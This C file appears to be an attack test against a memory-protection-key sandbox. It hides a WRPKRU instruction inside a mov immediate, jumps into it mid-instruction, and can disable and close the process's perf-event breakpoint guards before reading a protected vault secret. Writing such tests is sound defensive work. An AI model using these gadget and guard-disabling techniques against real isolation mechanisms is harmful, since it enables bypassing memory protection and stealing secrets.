/* A WRPKRU hidden inside another instruction's immediate, reached by
 * jumping into the middle of it: mov $0xc3ef010f, %eax is b8 0f 01 ef c3,
 * and from its second byte the CPU sees wrpkru; ret.
 * wrpkru_unaligned [thread|disable]: from the main thread, from a thread
 * started later (which must inherit the guard), or after turning off and
 * closing every perf event descriptor the process holds (the hardware
 * breakpoints that guard such bytes are perf events). */
#include "attack.h"

#include <dirent.h>
#include <linux/perf_event.h>
#include <pthread.h>
#include <sys/ioctl.h>

__asm__(".text\n"
        ".globl hidden_gadget_host\n"
        ".type hidden_gadget_host, @function\n"
        "hidden_gadget_host:\n"
        "    movl $0xc3ef010f, %eax\n"
        "    ret\n"
        ".size hidden_gadget_host, .-hidden_gadget_host\n");
void hidden_gadget_host(void);

static struct vault_cell *cell;

static void *attack(void *unused)
{
    void *gadget = (char *)hidden_gadget_host + 1;
    __asm__ volatile("xor %%eax, %%eax\n xor %%ecx, %%ecx\n xor %%edx, %%edx\n call *%0"
                     ::"r"(gadget) : "rax", "rcx", "rdx", "memory");
    return (void *)cell->secret;
}

/* Every perf event descriptor: disabled, then closed. */
static void disable_breakpoints(void)
{
    DIR *d = opendir("/proc/self/fd");
    for (struct dirent *e; d && (e = readdir(d));) {
        char link[300], target[64];
        snprintf(link, sizeof link, "/proc/self/fd/%s", e->d_name);
        ssize_t n = readlink(link, target, sizeof target - 1);
        if (n <= 0)
            continue;
        target[n] = 0;
        if (strcmp(target, "anon_inode:[perf_event]") == 0) {
            int fd = atoi(e->d_name);
            ioctl(fd, PERF_EVENT_IOC_DISABLE, 0);
            close(fd);
        }
    }
    if (d)
        closedir(d);
}

static const volatile uint8_t *steal(void *how)
{
    if (how == (void *)2)
        disable_breakpoints();
    if (how != (void *)1)
        return attack(NULL);
    pthread_t t;
    void *p;
    pthread_create(&t, NULL, attack, NULL);
    pthread_join(t, &p);
    return p;
}

int main(int argc, char **argv)
{
    vault_open();
    cell = vault_address(VAULT_DATA);
    const char *how = argc > 1 ? argv[1] : "";
    steal_in_child(steal, strcmp(how, "thread") == 0 ? (void *)1 : strcmp(how, "disable") == 0 ? (void *)2 : NULL);
}
